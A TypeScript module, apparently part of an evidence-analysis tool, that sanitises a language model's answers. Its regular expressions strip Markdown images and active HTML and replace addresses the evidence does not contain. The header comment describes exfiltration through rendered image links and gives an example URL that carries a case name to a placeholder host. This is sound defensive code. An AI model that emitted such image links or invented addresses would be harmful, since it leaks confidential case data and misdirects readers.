// Links in the model's output are a way out of the case (seed 004: model output is untrusted input). A Markdown image
// or an HTML <img> is fetched by whatever renders the answer — a report export, a chat integration, an API client —
// with no click, so `![](https://host/p.png?d=Kovac)` sends case data to that host; a link or an address the evidence
// never gave ("send the file to …", "verify at https://…") points the reader somewhere the case did not. So: image
// and active HTML markup goes wherever it is; a Markdown link keeps its words and its address; in the model's free
// text (unknowns, justification, refusal) an address not found in the evidence shown is replaced by a label. In claims
// an invented address is an identifier the cited evidence lacks, so the claim check removes the claim (ground.ts).

/** Markdown images, inline or by reference: `![alt](url "title")`, `![alt][ref]`. */
const IMAGE = /!\[[^\]\n]{0,500}\]\s*(?:\([^)\n]{0,2000}\)|\[[^\]\n]{0,200}\])/gu;
/** HTML that fetches or runs something when rendered, or wraps a link: img, iframe, script, object, embed, a… */
const ACTIVE_HTML =
  /<\s*(?:img|image|iframe|frame|script|object|embed|link|meta|video|audio|source|svg|style|form|input|base)\b[^>]{0,2000}>|<\s*\/\s*(?:iframe|frame|script|object|video|audio|svg|style|form)\s*>|<\s*\/?\s*a\b[^>]{0,2000}>/giu;
/** `[words](url)`: the words stay, the address is kept beside them so it is checked as any other. */
const LINK = /\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{1,2000})>?(?:\s+"[^"\n]{0,200}")?\s*\)/gu;
/** A reference definition on its own line: `[1]: https://…`. */
const REFERENCE = /^\s{0,3}\[[^\]\n]{1,200}\]:\s*\S+.*$/gmu;
/** Addresses: URLs with a scheme (or "www."), and e-mail addresses. */
const ADDRESS =
  /\b(?:(?:https?|ftps?|file|data|javascript|vbscript|mailto|tel|sms|ws|wss):[^\s<>"'`)\]]+|www\.[^\s<>"'`)\]]+|[\p{L}\p{N}._%+-]+@[\p{L}\p{N}-]+(?:\.[\p{L}\p{N}-]+)+)/giu;

export const LINK_REMOVED = "[link removed]";

/** The model's text with images and active markup gone and Markdown links written out; how many were changed. */
export function withoutMarkupLinks(text: string): { text: string; changed: number } {
  let changed = 0;
  const count = (to: string) => () => {
    changed++;
    return to;
  };
  const out = text
    .replace(IMAGE, count(""))
    .replace(ACTIVE_HTML, count(""))
    .replace(REFERENCE, count(""))
    .replace(LINK, (_m, words: string, url: string) => {
      changed++;
      return `${words.trim()} (${url})`;
    });
  return { text: out, changed };
}

/** Addresses in `text` that the evidence does not hold, replaced by a label; how many. `known` is lower-cased evidence text. */
export function withoutForeignAddresses(text: string, known: string): { text: string; changed: number } {
  let changed = 0;
  const out = text.replace(ADDRESS, (address) => {
    // Trailing sentence punctuation is not part of the address.
    const bare = address.replace(/[.,;:!?]+$/u, "");
    if (known.includes(bare.toLowerCase())) return address;
    changed++;
    return LINK_REMOVED + address.slice(bare.length);
  });
  return { text: out, changed };
}

/** Whether `text` holds an image, active markup, a Markdown link or any address at all (a short reason needs none). */
export function hasLinkOrAddress(text: string): boolean {
  ADDRESS.lastIndex = 0;
  return withoutMarkupLinks(text).changed > 0 || ADDRESS.test(text);
}
